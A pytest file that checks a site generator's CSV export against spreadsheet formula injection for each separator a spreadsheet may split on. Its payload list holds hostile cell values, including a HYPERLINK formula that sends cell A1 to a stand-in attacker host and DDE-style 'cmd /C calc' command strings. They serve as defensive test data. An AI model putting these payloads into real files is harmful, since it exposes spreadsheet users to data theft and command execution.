"""projects.csv cannot run a formula in a spreadsheet, whatever separator the spreadsheet splits on.

OWASP's CSV-injection guidance: no cell may start with = + - @ (or a tab or line break), and it is not enough
to look at the first character of our cells, because a spreadsheet set up for French, Spanish, Portuguese or
German splits on `;`, a paste splits on tabs, and a reader that ignores quotes splits on line breaks: `x;=1+1;`
is one cell to us and a formula to them. The file is written, then read back with Python's csv module for each
separator a spreadsheet may use, and also split naively (as a reader that ignores quotes would); no cell of any
reading may start a formula, and every text comes back whole but for the apostrophes.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from fichegen.build import build
from fichegen.exports.table import FORMULA_STARTS, safe_cell

from test_hostile_files import make_project

TOML = 'title = { en = "CSV" }\nlanguages = ["en"]\nfallback = ["en"]\nbuild_date = 2024-06-01\n'

#: Texts that are harmless in a comma-separated reading and start a formula in another.
PAYLOADS = [
    "x;=1+1;",
    'x;=HYPERLINK("https://evil.example/?"&A1;"click")',
    "a, =2+3",
    "a,@SUM(1+1)*cmd|' /C calc'!A0",
    "tab\t=1+1",
    "tab\t\t+1",
    "line\n=1+1",
    "crlf\r\n-2+3+cmd|' /C calc'!A0",
    'quote;"=1+1',
    'quote;  " =1+1',
    "=1+2\";=1+2",          # OWASP's examples
    "=1+2'\" ;,=1+2",
    "; -1",
    "@start",
]
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t"}
FORMULA = re.compile(r"^[\s\"]*[=+\-@]")


def yaml_text(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t") + '"'


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> str:
    root = tmp_path_factory.mktemp("csv") / "p"
    files = {}
    for i, payload in enumerate(PAYLOADS):
        files[f"content/projects/p{i:02d}.yaml"] = (
            "original_language: en\n"
            f"title: {{en: {yaml_text(payload)}}}\n"
            f"summary: {{en: {yaml_text('summary ' + payload)}}}\n"
            f"acronym: {yaml_text(payload.splitlines()[0][:20] or 'x')}\n"
            f"objectives:\n  - {{en: {yaml_text(payload)}}}\n  - {{en: {yaml_text('-' + payload)}}}\n")
    make_project(root, files, TOML)
    out = root.parent / "site"
    result = build(root, out, search=False)
    assert result.ok, result.check.errors
    return (out / "data" / "projects.csv").read_bytes().decode("utf-8")


def readings(text: str) -> dict[str, list[str]]:
    """Every cell of the file as each kind of reader sees it."""
    out = {}
    for name, sep in SEPARATORS.items():
        out[f"csv module, {name}"] = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for cell in row]
        out[f"ignoring quotes, {name}"] = [cell for line in re.split(r"\r\n|\r|\n", text) for cell in line.split(sep)]
    return out


def test_no_reading_of_the_file_with_any_separator_starts_a_formula(exported):
    counts = {}
    for reading, cells in readings(exported).items():
        bad = [cell[:60] for cell in cells if FORMULA.match(cell)]
        assert bad == [], f"{reading}: a spreadsheet would run {bad[:5]}"
        counts[reading] = len(cells)
    print("\ncells read back with no formula: " + ", ".join(f"{n:,} ({reading})" for reading, n in counts.items()))


def test_each_cell_as_written_starts_with_no_formula_character(exported):
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_every_text_comes_back_whole_but_for_the_apostrophes(exported):
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    header, body = rows[0], rows[1:]
    titles = sorted(row[header.index("title_en")] for row in body)
    assert sorted(t.replace("'", "") for t in titles) == sorted(p.replace("'", "") for p in PAYLOADS)
    assert "x;'=1+1;" in titles


@pytest.mark.parametrize("value, expected", [
    ("x;=1+1;", "x;'=1+1;"),
    ("=1+2\";=1+2", "'=1+2\";'=1+2"),
    ("a, -b", "a, '-b"),
    ('x;"=1', 'x;"\'=1'),
    ("Para\n- item", "Para\n'- item"),
    ("\tx", "'\tx"),
    (" =1", " '=1"),
    ("Para one.\n\nPara two; a-b, c@d", "Para one.\n\nPara two; a-b, c@d"),
    ("https://example.org/?a=1;b=2", "https://example.org/?a=1;b=2"),
    ("1532558.68", "1532558.68"),
])
def test_safe_cell_puts_an_apostrophe_only_where_a_cell_would_start_a_formula(value, expected):
    assert safe_cell(value) == expected
